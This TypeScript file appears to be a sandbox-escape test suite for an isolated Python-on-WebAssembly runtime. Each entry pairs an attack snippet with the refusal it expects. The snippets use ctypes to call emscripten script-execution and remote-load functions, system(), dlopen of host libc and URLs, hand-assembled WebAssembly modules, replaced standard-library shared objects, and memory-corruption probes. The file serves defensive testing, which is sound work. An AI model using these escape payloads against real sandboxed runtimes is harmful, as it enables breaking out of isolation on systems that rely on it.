// SPDX-License-Identifier: Apache-2.0
// By pointers: ctypes, dlsym, shared objects, memory.
import { dynloadFolder, extensionSuffix } from "../../host/platform/python-version.ts";
import type { Attack } from "./attack.ts";

const refused = /isolated mode|fatal error/;
const LIBRARY = "import ctypes; lib = ctypes.CDLL(None)\n";

/** A module that imports a function of the environment and calls it when it is loaded, in bytes. */
const MODULE = `
def leb(n): return bytes([n])
def section(number, body): return bytes([number]) + leb(len(body)) + body
def text(s): return leb(len(s)) + s.encode()
dylink = section(0, text('dylink.0') + bytes([1, 4, 0, 0, 0, 0]))
def module(name):
    types = section(1, bytes([2, 0x60, 1, 0x7f, 1, 0x7f, 0x60, 0, 0]))
    imports = section(2, bytes([1]) + text('env') + text(name) + bytes([0, 0]))
    functions = section(3, bytes([1, 1]))
    exports = section(7, bytes([1]) + text('__wasm_call_ctors') + bytes([0, 1]))
    code = section(10, bytes([1, 7, 0, 0x41, 0, 0x10, 0, 0x1a, 0x0b]))
    return b'\\0asm\\1\\0\\0\\0' + dylink + types + imports + functions + exports + code
`;

const call = (name: string, args: string): Attack => ({
  title: `ctypes calls ${name}`,
  code: `${LIBRARY}lib.${name}(${args})`,
  stopped: /isolated mode|fatal error|AttributeError|OSError/,
});

export const ctypes: readonly Attack[] = [
  call("emscripten_run_script", "b'globalThis.escaped = 1'"),
  call("emscripten_run_script_int", "b'process.pid'"),
  call("emscripten_run_script_string", "b'process.version'"),
  call("emscripten_async_run_script", "b'1', 0"),
  call("emscripten_async_load_script", "b'https://example.com/x.js', 0, 0"),
  call("emscripten_asm_const_int", "0, 0, 0"),
  call("emscripten_wget_data", "b'https://example.com/', 0, 0, 0"),
  call("emscripten_async_wget", "b'https://example.com/', b'/tmp/x', 0, 0"),
  call("emscripten_create_worker", "b'https://example.com/'"),
  call("emscripten_set_timeout", "0, 0, 0"),
  call("emscripten_promise_create", ""),
  call("emscripten_console_log", "b'escaped'"),
  call("emscripten_get_callstack", "0, 0, 0"),
  call("emscripten_throw_string", "b'x'"),
  call("emscripten_dlopen", "b'/tmp/x.so', 1, 0, 0, 0"),
  call("bridge_evaluate", "5"),
  {
    title: "ctypes calls bridge_globals",
    code: `${LIBRARY}assert lib.bridge_globals(), 'refused'`,
    stopped: /refused/,
  },
  call("bridge_construct", "1, 2"),
  call("bridge_call_array", "1, 2, 3"),
  call("bridge_file_transfer", "1, 2, 0"),
  call("bridge_raise", "1"),
  call("core_raise_in_cpp", "1"),
  {
    title: "system()",
    code: `${LIBRARY}assert lib.system(b'echo escaped') == 0, 'refused'`,
    stopped: /refused/,
  },
  { title: "dlsym of a name of every object", code: `${LIBRARY}lib.constructor`, stopped: /AttributeError/ },
  { title: "dlsym of __proto__", code: `${LIBRARY}lib['__proto__']`, stopped: /AttributeError/ },
  {
    title: "dlopen of a name of every object",
    code: "import ctypes; ctypes.CDLL('constructor').exports",
    stopped: /OSError|fatal error|AttributeError/,
  },
  {
    title: "dlopen of __proto__",
    code: "import ctypes; ctypes.CDLL('__proto__').exports",
    stopped: /OSError|fatal error|AttributeError/,
  },
  {
    title: "dlopen of an address",
    code: "import ctypes; ctypes.CDLL('https://example.com/x.so')",
    stopped: /OSError/,
  },
  {
    title: "dlopen of a host file",
    code: "import ctypes; ctypes.CDLL('/usr/lib/x86_64-linux-gnu/libc.so.6')",
    stopped: /OSError/,
  },
  {
    title: "dlopen of WebAssembly that the program has written",
    code: `${MODULE}\nopen('/tmp/x.so', 'wb').write(module('emscripten_run_script_int'))\nimport ctypes; ctypes.CDLL('/tmp/x.so')`,
    stopped: /OSError: could not load[\s\S]*isolated mode/,
  },
  {
    title: "dlopen of WebAssembly that grows memory",
    code: `${MODULE}\nopen('/tmp/x.so', 'wb').write(module('emscripten_resize_heap'))\nimport ctypes; ctypes.CDLL('/tmp/x.so')`,
    stopped: /OSError: could not load[\s\S]*isolated mode/,
  },
  {
    title: "import of an extension that the program has written",
    code: `${MODULE}\nimport sys; sys.path.insert(0, '/tmp')\nopen('/tmp/evil.so', 'wb').write(module('bridge_evaluate'))\nimport evil`,
    stopped: /ImportError|isolated mode/,
  },
  {
    title: "a shared object of the standard library is replaced before its import",
    code: `${MODULE}
from importlib.machinery import ExtensionFileLoader, ModuleSpec
path = '${dynloadFolder}/_decimal${extensionSuffix}'
open(path, 'wb').write(module('emscripten_run_script_int'))
from importlib.util import module_from_spec
module_from_spec(ModuleSpec('_decimal', ExtensionFileLoader('_decimal', path), origin=path))`,
    stopped: /ImportError|isolated mode/,
  },
  {
    title: "a shared object with one byte changed",
    code: `
import unicodedata
data = bytearray(open(unicodedata.__file__, 'rb').read())
data[-1] ^= 1
open('/tmp/unicodedata.so', 'wb').write(data)
import ctypes; ctypes.CDLL('/tmp/unicodedata.so')`,
    stopped: /OSError: could not load[\s\S]*isolated mode/,
  },
  {
    title: "garbage at the beginning of memory",
    code: "import ctypes; ctypes.memset(0, 255, 1 << 20); raise RuntimeError('contained')",
    stopped: /contained|fatal|stack|exception|Error/,
  },
  {
    title: "garbage in all of memory",
    code: "import ctypes; ctypes.memset(1024, 0xa5, 12 << 20); raise RuntimeError('contained')",
    stopped: /contained|fatal|stack|exception|Error/,
  },
  {
    title: "reading beyond memory",
    code: "import ctypes; ctypes.string_at(0xfff00000, 1 << 16)",
    stopped: /fatal error/,
  },
  {
    title: "a call of address 0",
    code: "import ctypes; ctypes.CFUNCTYPE(None)(0)()",
    stopped: /ValueError|fatal error|NULL/,
  },
  {
    title: "a call of a wild address",
    code: "import ctypes; ctypes.CFUNCTYPE(None)(0x7fffffff)()",
    stopped: /fatal error/,
  },
  {
    title: "every function of the table",
    code: "import ctypes\nfor address in range(1, 20000):\n    ctypes.CFUNCTYPE(ctypes.c_int)(address)()\nraise RuntimeError('contained')",
    stopped: /contained|fatal error|isolated mode|Error|exit/,
    limits: { time: 15_000 },
  },
  {
    title: "a proxy whose slot is another's",
    code: `
import ctypes, sys
from pyxide.isolated import grants
port = grants._ports[0]
size = type(port).__basicsize__
saved = ctypes.string_at(id(port), size)
for at in range(8, size, 4):
    for slot in range(0, 60):
        ctypes.memmove(id(port) + at, slot.to_bytes(4, 'little'), 4)
        for name in ('constructor', '__proto__', 'globalThis', 'process', 'stack', 'then'):
            try:
                found = getattr(port, name)
            except Exception:
                continue
            ctypes.memmove(id(port), saved, size)
            raise SystemError(f'escaped: {name} {found!r}')
        ctypes.memmove(id(port), saved, size)
raise RuntimeError('contained')`,
    stopped: /contained|fatal error/,
  },
  {
    title: "memory beyond the limit",
    code: `${LIBRARY}assert lib.emscripten_resize_heap(ctypes.c_uint(0xfff00000)), 'refused'`,
    stopped: /refused/,
  },
  {
    title: "a description of a call with four thousand million arguments",
    code: `
import ctypes
lib = ctypes.CDLL(None)
cif = (ctypes.c_uint32 * 8)(1, 0xffffffff, 0, ctypes.addressof(ctypes.c_int(0)), 0, 0, 0xffffffff, 0)
lib['__wrap_ffi_call'](ctypes.byref(cif), 1, 0, 0)`,
    stopped: refused,
  },
  { title: "exit", code: `${LIBRARY}lib.exit(3)`, stopped: /exit|fatal/ },
  { title: "abort", code: `${LIBRARY}lib.abort()`, stopped: /fatal|abort/i },
  {
    title: "a trampoline's import is Python",
    code: "import ctypes\nf = ctypes.CFUNCTYPE(ctypes.c_int)(lambda: 1 // 0)\nf()\nraise RuntimeError('contained')",
    stopped: /contained/,
  },
  {
    title: "callbacks of ctypes without end",
    code: "import ctypes\nkind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)\nkept = []\nwhile True: kept.append(kind(lambda n: n))",
    stopped: /isolated mode|fatal error|MemoryError|RuntimeError|milliseconds/,
    limits: { time: 20_000 },
  },
];
